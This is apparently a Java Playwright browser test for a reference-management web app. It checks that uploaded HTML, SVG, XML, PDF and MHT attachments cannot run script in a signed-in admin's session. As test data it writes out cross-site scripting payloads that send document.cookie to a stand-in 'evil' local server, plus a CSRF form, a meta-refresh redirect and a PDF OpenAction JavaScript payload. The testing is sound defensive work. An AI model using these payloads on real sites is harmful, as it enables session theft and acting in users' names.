package cloud.girofle.herbier.web;

import static org.assertj.core.api.Assertions.assertThat;

import cloud.girofle.herbier.knowledge.Role;
import cloud.girofle.herbier.reference.Attachment;
import cloud.girofle.herbier.reference.Attachment.LinkMode;
import cloud.girofle.herbier.reference.Attachment.Presence;
import cloud.girofle.herbier.reference.Record;
import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import com.microsoft.playwright.Route;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files that would run, in a real browser that holds an admin's session: none does. */
@SuppressWarnings("NullAway.Init") // JUnit opens them before the test.
class ActiveFilesBrowserTest {

    @TempDir private Path folder;

    /** Somebody else's server: it hears what a file that runs would tell. */
    private final ConcurrentLinkedQueue<String> heard = new ConcurrentLinkedQueue<>();

    private HttpServer evil;
    private String elsewhere;
    private SampleSite site;

    @BeforeEach
    void open() throws IOException {
        evil = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere = "http://127.0.0.1:" + evil.getAddress().getPort();
        evil.createContext(
                "/",
                exchange -> {
                    String path = exchange.getRequestURI().toString();
                    byte[] page =
                            path.equals("/control")
                                    ? html().getBytes(StandardCharsets.UTF_8)
                                    : new byte[] {'.'};
                    if (path.contains("leak")) {
                        heard.add(path);
                    }
                    exchange.getResponseHeaders().add("Content-Type", "text/html");
                    exchange.sendResponseHeaders(200, page.length);
                    exchange.getResponseBody().write(page);
                    exchange.close();
                });
        evil.start();
        site = SampleSite.empty();
    }

    @AfterEach
    void close() {
        site.close();
        evil.stop(0);
    }

    @Test
    void noAttachedFileRunsInOurName() throws IOException {
        Member admin = site.signIn(Role.ADMIN);
        List<String> addresses = files();
        try (Browser browser = Browser.start()) {
            Page page = browser.open(new Browser.Device(1200, true, false));
            BrowserContext context = page.context();
            admin.carriedBy(context);
            page.navigate(elsewhere + "/control");
            page.waitForURL("**/leak-location**");
            assertThat(heard).as("this would be heard").isNotEmpty();
            heard.clear();
            ConcurrentLinkedQueue<String> asked = new ConcurrentLinkedQueue<>();
            context.onRequest(request -> asked.add(request.url()));
            for (String address : addresses) {
                visit(page, site.address() + address); // As somebody follows the link.
                framed(page, site.address() + address); // As another site shows it.
                assertThat(heard).as(address).isEmpty();
                shown(page, site.address() + address); // As a browser that shows it all the same.
                assertThat(heard).as(address + ", shown").isEmpty();
            }
            assertThat(heard).isEmpty();
            assertThat(asked)
                    .noneMatch(each -> each.contains("/curation") || each.contains("leak"));
            assertThat(asked)
                    .filteredOn(each -> each.contains("/fichiers/"))
                    .hasSizeGreaterThan(10);
            admin.page("/curation"); // The session still stands.
            assertThat(admin.get("/curation").statusCode()).isEqualTo(200);
        }
    }

    /** Each tries to say that it ran, to read a cookie, and to act in the admin's name. */
    private String html() {
        return "<!DOCTYPE html><html><body onload=\""
                + script()
                + "\"><script>"
                + script()
                + "</script>"
                + "<img src=x onerror=\""
                + script()
                + "\"><iframe src=/curation></iframe>"
                + "<meta http-equiv=refresh content='0;url="
                + elsewhere
                + "/leak-refresh'>"
                + "<form action=/curation/sortir method=post id=f></form>";
    }

    private String script() {
        return "fetch('/curation/moi');new Image().src='"
                + elsewhere
                + "/leak-cookie?'+document.cookie;"
                + "location='"
                + elsewhere
                + "/leak-location'";
    }

    private List<String> files() throws IOException {
        Map<String, String> contents = new LinkedHashMap<>();
        String svg =
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\""
                        + script().replace("\"", "'")
                        + "\"><script>"
                        + script().replace("&", "&amp;")
                        + "</script></svg>";
        contents.put("instantane.html|text/html", html());
        contents.put("dessin.svg|image/svg+xml", "<?xml version=\"1.0\"?>" + svg);
        contents.put(
                "page.xhtml|application/xhtml+xml",
                "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>"
                        + script()
                        + "</script></html>");
        contents.put(
                "donnees.xml|text/xml",
                "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\""
                        + elsewhere
                        + "/leak-xsl\"?><a>"
                        + svg
                        + "</a>");
        contents.put("article.pdf|application/pdf", pdf());
        contents.put("deux.pdf|text/html", "<!--%PDF-1.4-->" + html());
        contents.put("notes.txt|text/plain", html());
        contents.put(
                "page.mht|multipart/related",
                "MIME-Version: 1.0\nContent-Type: text/html\n\n" + html());
        return contents.entrySet().stream()
                .map(each -> {
                    String[] named = each.getKey().split("\\|", -1);
                    return held(named[0], named[1], each.getValue());
                })
                .toList();
    }

    private String pdf() {
        return "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('"
                + elsewhere
                + "/leak-pdf'\\);)>>/AA<</WC<</S/URI/URI("
                + elsewhere
                + "/leak-uri)>>>>>>endobj\n"
                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF";
    }

    private static void visit(Page page, String address) {
        try {
            page.navigate(address);
        } catch (PlaywrightException e) {
            assertThat(e.getMessage()).containsAnyOf("Download is starting", "ERR_ABORTED");
        }
    }

    private static void framed(Page page, String address) {
        page.navigate("about:blank");
        page.setContent(
                "<iframe src='%1$s'></iframe><object data='%1$s'></object><embed src='%1$s'><img src='%1$s'>"
                        .formatted(address));
    }

    /** The policy alone holds it back: its type and that it is to be kept are taken away. */
    private static void shown(Page page, String address) {
        page.route("**/fichiers/**", route -> shown(route, address));
        page.navigate(address);
        page.unroute("**/fichiers/**");
    }

    private static void shown(Route route, String address) {
        APIResponse answer = route.fetch();
        Map<String, String> headers = new HashMap<>(answer.headers());
        headers.remove("content-disposition");
        headers.remove("x-content-type-options");
        headers.put("content-type", address.endsWith(".svg") ? "image/svg+xml" : "text/html");
        route.fulfill(new Route.FulfillOptions().setResponse(answer).setHeaders(headers));
    }

    /** The address of a file that a reference has. */
    private String held(String name, String type, String content) {
        try {
            Path file = Files.writeString(folder.resolve("incoming"), content);
            Attachment attachment =
                    new Attachment(
                                    "",
                                    LinkMode.IMPORTED_FILE,
                                    Presence.STORED,
                                    "La pièce",
                                    type,
                                    "files/4/" + name,
                                    "",
                                    "",
                                    "",
                                    List.of())
                            .kept(site.files().keep(file));
            String key =
                    site.add(
                            new Record(
                                    name,
                                    "report",
                                    Map.of("title", "Un rapport"),
                                    List.of(),
                                    List.of(),
                                    List.of(),
                                    List.of(attachment),
                                    List.of(),
                                    List.of()));
            return site.page("/references/" + key).select("a[href*=/fichiers/]").attr("href");
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
